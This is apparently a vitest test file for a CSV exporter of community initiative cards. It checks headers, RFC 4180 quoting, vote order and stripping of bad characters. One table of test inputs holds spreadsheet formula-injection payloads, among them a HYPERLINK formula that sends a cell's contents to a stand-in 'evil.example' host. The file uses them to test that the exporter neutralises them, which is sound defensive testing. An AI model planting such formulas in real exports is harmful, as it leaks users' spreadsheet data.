import { describe, expect, it } from 'vitest'
import { formatCsvCell, renderInitiativesCsv } from './csv'
import { initiativeFields, type InitiativeField } from '../pad/initiative'
import type { Initiative } from './recipe'
import { buildFixtureRecipe } from '../testing/recipe-fixtures'

/** RFC 4180, read strictly: what a spreadsheet would see. */
function parseCsv(csv: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let index = 0; index < csv.length; index++) {
    const character = csv[index]
    if (quoted) {
      if (character === '"' && csv[index + 1] === '"') {
        cell += '"'
        index++
      } else if (character === '"') quoted = false
      else cell += character
    } else if (character === '"' && cell === '') quoted = true
    else if (character === ',') {
      row.push(cell)
      cell = ''
    } else if (character === '\r' && csv[index + 1] === '\n') {
      row.push(cell)
      rows.push(row)
      row = []
      cell = ''
      index++
    } else if (character === '"' || character === '\r' || character === '\n') throw new Error(`bare ${JSON.stringify(character)} at ${index}`)
    else cell += character
  }
  if (quoted || cell !== '' || row.length > 0) throw new Error('the file does not end with CRLF')
  return rows
}

function initiative(fields: Partial<Initiative>): Initiative {
  return { ...(Object.fromEntries(initiativeFields.map((field) => [field, ''])) as Record<InitiativeField, string>), id: '1-0', insee: '', votes: null, ...fields }
}

describe('CSV export of the initiative cards', () => {
  it('has a BOM, CRLF line ends, a header row in the pad language and one row per card, with its id, commune code, date and source', () => {
    const recipe = buildFixtureRecipe('collecte')
    const csv = renderInitiativesCsv(recipe)
    expect(
      csv.startsWith(
        '\uFEFFIdentifiant,Nom,Territoire (commune),Porteur·euses,Thématique,Besoin identifié / ce que cela change,Lien,Cité par,Code INSEE de la commune,Date de la session,Source,Gommettes (dernier vote)\r\n',
      ),
    ).toBe(true)
    // The fixture's vote put the second card first ("most dots first"): the pad's order back, to read the cards as written.
    const rows = parseCsv(renderInitiativesCsv({ ...recipe, session: { ...recipe.session, votes: [] } }).slice(1))
    expect(rows).toHaveLength(3)
    expect(rows[1]?.slice(1, 8)).toEqual(['Repair café des Gratte-Ciel', 'Villeurbanne', 'Association Les Bricoleurs', 'Réemploi, lien social', 'Réparer plutôt que jeter ; des voisin·es qui se rencontrent', 'https://bricoleurs.example.org/repair-cafe', 'Alice Martin'])
    expect(rows[1]?.[0]).toMatch(/^\d+-\d+$/)
    expect(rows[2]?.[0]).not.toBe(rows[1]?.[0])
    expect(rows[1]?.slice(8)).toEqual([recipe.initiatives[0]?.insee, recipe.session.date, recipe.source, '3'])
    expect(rows[2]?.[3]).toBe('')
  })

  it('gives each card its dots in the last closed vote, listed most dots first or as in the pad, as the facilitator chose', () => {
    const recipe = buildFixtureRecipe('collecte')
    const byDots = parseCsv(renderInitiativesCsv(recipe).slice(1))
    expect(byDots.slice(1).map((row) => [row[1], row.at(-1)])).toEqual([['Épicerie solidaire L’Épi', '7'], ['Repair café des Gratte-Ciel', '3']])
    const lastVote = recipe.session.votes[0]!
    const asInPad = { ...recipe, session: { ...recipe.session, votes: [{ ...lastVote, order: 'document' as const }] } }
    const rows = parseCsv(renderInitiativesCsv(asInPad).slice(1))
    expect(rows.slice(1).map((row) => [row[1], row.at(-1)])).toEqual([['Repair café des Gratte-Ciel', '3'], ['Épicerie solidaire L’Épi', '7']])
  })

  it('labels the columns in English for an English pad, and has only the header without cards', () => {
    const recipe = { ...buildFixtureRecipe('compte-rendu'), initiatives: [] }
    expect(renderInitiativesCsv(recipe)).toBe('\uFEFFId,Name,Territory (town),Run by,Theme,Need addressed / what it changes,Link,Named by,Commune INSEE code,Session date,Source,Dots (last vote)\r\n')
  })

  it('quotes commas, quotes and line breaks as RFC 4180 says', () => {
    const recipe = { ...buildFixtureRecipe('collecte'), initiatives: [initiative({ name: 'Le "Bon" Coin, Lyon', need: 'ligne 1\nligne 2' })] }
    const rows = parseCsv(renderInitiativesCsv(recipe).slice(1))
    expect(rows[1]?.[1]).toBe('Le "Bon" Coin, Lyon')
    expect(rows[1]?.[5]).toBe('ligne 1\nligne 2')
  })

  it.each([
    ['=HYPERLINK("https://evil.example/?"&A1,"clic")', '\'=HYPERLINK("https://evil.example/?"&A1,"clic")'],
    ['+33 1 23 45 67 89', "'+33 1 23 45 67 89"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\n=1+1"],
    ['Repair café', 'Repair café'],
  ])('neutralises formula injection: %j reads as %j', (value, expected) => {
    const [row] = parseCsv(`${formatCsvCell(value)}\r\n`)
    expect(row).toEqual([expected])
  })

  it('strips characters a spreadsheet would choke on', () => {
    expect(formatCsvCell('a\u0000b\u202Ec\uD800')).toBe('abc')
  })
})
